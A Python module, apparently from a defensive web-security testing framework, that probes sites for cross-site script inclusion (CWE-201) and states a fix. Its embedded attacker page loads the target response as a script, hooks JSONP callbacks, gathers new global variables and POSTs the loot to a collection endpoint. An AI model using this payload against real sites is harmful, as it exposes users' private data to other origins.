"""The attacker's page includes an answer of the site's as a script (cross-site script inclusion).

What a script says in global variables, or hands to a function that the address names, belongs to
the page that includes it. Oracle: words that only the victim's answers hold are found there.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING
from urllib.parse import urlencode

from ringfence.prove.aims import sees_secret
from ringfence.prove.stage import (
    Attack,
    Outcome,
    Result,
    Target,
    new_marker,
    one_by_one,
    path_of,
    stopped_by_answer,
)

if TYPE_CHECKING:
    from ringfence.prove.discover.survey import Survey
    from ringfence.prove.stage import Stage

__all__ = ["ATTACK"]

#: What sites call the parameter that names the function.
_CALLBACKS = ("callback", "jsonp", "cb", "jsoncallback")
_FUNCTION = "ringfenceLoot"


def _find(survey: Survey) -> tuple[Target, ...] | str:
    targets = {
        page.path: Target(page.path, f"GET {page.path}", visitor=page.visitor, place=page.place)
        for page in survey.with_secret()
        if not page.is_html
    }
    return tuple(targets.values()) or "no answer with a visitor's data that is no page was found"


def _strike(stage: Stage, target: Target) -> Result:
    plain = _included(stage, target, target.path)
    if plain.outcome is not Outcome.STOPPED:
        return plain
    query = urlencode(dict.fromkeys(_CALLBACKS, _FUNCTION))
    separator = "&" if "?" in target.path else "?"
    return _included(stage, target, f"{target.path}{separator}{query}")


def _included(stage: Stage, target: Target, path: str) -> Result:
    name = new_marker()
    page = f"""<!doctype html><title>Cats</title><script>
        const before = new Set(Object.getOwnPropertyNames(window)), loot = [];
        window.{_FUNCTION} = (...given) => loot.push(given);
        const done = (how) => {{
            for (const each of Object.getOwnPropertyNames(window)) {{
                if (!before.has(each)) try {{ loot.push(window[each]); }} catch {{}}
            }}
            let text; try {{ text = JSON.stringify(loot); }} catch {{ text = String(loot); }}
            fetch({json.dumps(stage.collect_path(name))}, {{method: "POST", body: how + text}});
        }};
        const script = document.createElement("script");
        script.src = {json.dumps(stage.url(path))};
        script.onload = () => done("loaded:"); script.onerror = () => done("blocked:");
        document.head.append(script);
        </script>"""
    mark = stage.mark()
    stage.visit(stage.serve(page, name=name))
    loot = stage.collected(name)
    if loot is None:
        return Result(Outcome.INCONCLUSIVE, "timeout", "the attacker's page never reported")
    if stage.secret(target.visitor) in loot:
        return Result(
            Outcome.SUCCEEDED, "included", f"the victim's data is in the attacker's page: {path}"
        )
    return stopped_by_answer(
        stage.request_since(mark, "GET", path_of(path)), "nothing to be had from it"
    )


ATTACK = Attack(
    name="inclusion",
    title="inclusion of an answer with the victim's data as a script",
    cwe="CWE-201",
    stopped_by=("isolation", "transport"),
    find=_find,
    strike=one_by_one(_strike),
    use=sees_secret,
    fix="answer with JSON and nosniff, never with a script; refuse what other sites include",
    guess=True,
)
